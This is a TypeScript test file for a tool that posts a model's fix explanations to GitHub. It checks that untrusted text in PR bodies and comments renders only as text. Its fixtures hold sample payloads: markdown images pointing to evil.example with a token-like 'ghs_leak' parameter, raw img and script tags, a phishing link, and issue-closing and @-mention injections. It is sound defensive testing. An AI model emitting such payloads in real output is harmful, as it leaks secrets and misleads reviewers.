/**
 * The PR body and the patch comment render untrusted text as text. Rendered
 * with markdown-it as GitHub would (raw HTML allowed, bare URLs linked): the
 * model's explanation, names and paths produce no image, no link and no HTML
 * element, and the text is still there to read.
 */
import MarkdownIt from "markdown-it";
import { describe, expect, test } from "vitest";
import { inlineCode, renderPatchComment, renderPrBody, type PrBodyInput } from "../src/fix/pr-body.js";

const markdown = new MarkdownIt({ html: true, linkify: true });

const HOSTILE_EXPLANATION = [
  "The parser returned `['']`. ![x](https://evil.example/p.png?d=ghs_leak)",
  '<img src="https://evil.example/q.png"> <a href="https://evil.example">docs</a> <script>alert(1)</script>',
  "See [the fix](https://evil.example/phish) or https://evil.example/raw and closes #12, thanks @octocat",
  "```",
  "![y](https://evil.example/after-fence.png)",
].join("\n");

function input(over: Partial<PrBodyInput> = {}): PrBodyInput {
  return {
    repo: "acme/widgets",
    workflow: "CI ![w](https://evil.example/w.png)",
    job: "test <img src=https://evil.example/j.png>",
    failingStep: "Run `npm test`",
    errorLines: ["AssertionError: expected [ '' ] to deeply equal [] ![e](https://evil.example/e.png)"],
    runUrl: "https://github.com/acme/widgets/actions/runs/1/job/2",
    explanation: HOSTILE_EXPLANATION,
    diffStat: [{ path: "src/![p](https:/evil.example/p.png)`x`.ts", added: 1, removed: 0 }],
    inferenceId: "0190f0c0-0000-7000-8000-000000000001",
    episodeId: "0190f0c0-0000-7000-8000-000000000002",
    variant: "gpt_5_mini_v1",
    attempt: 1,
    maxAttempts: 2,
    failingSha: "8f4c2a1d9e3b7c6a5f4e3d2c1b0a9f8e7d6c5b4a",
    failingBranch: "main",
    ...over,
  };
}

function elementsOf(html: string) {
  return {
    images: html.match(/<img\b/g)?.length ?? 0,
    links: (html.match(/<a\s[^>]*href="([^"]*)"/g) ?? []).filter((a) => !a.includes("https://github.com/acme/widgets/actions/runs/1/job/2")),
    scripts: html.match(/<script\b/g)?.length ?? 0,
  };
}

describe("untrusted text in what fixloop writes on GitHub", () => {
  test("the PR body: no image, no link, no HTML from the model, logs or names; the text stays readable", () => {
    const body = renderPrBody(input());
    const html = markdown.render(body);
    expect(elementsOf(html)).toEqual({ images: 0, links: [], scripts: 0 });
    expect(html).toContain("![x](https://evil.example/p.png?d=ghs_leak)");
    expect(body).not.toMatch(/closes #12/);
    expect(body).not.toContain("@octocat");
  });

  test("the patch comment too", () => {
    const body = renderPatchComment({ ...input(), diff: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+![z](https://evil.example/z.png)\n", reason: "this PR comes from a fork" });
    expect(elementsOf(markdown.render(body))).toEqual({ images: 0, links: [], scripts: 0 });
  });

  test("inline code cannot be closed by its content", () => {
    expect(markdown.renderInline(inlineCode("a`b``c"))).toBe("<code>a`b``c</code>");
    expect(markdown.renderInline(inlineCode("![i](https://e.example/i.png)\n<b>x</b>"))).toBe("<code>![i](https://e.example/i.png) &lt;b&gt;x&lt;/b&gt;</code>");
  });
});
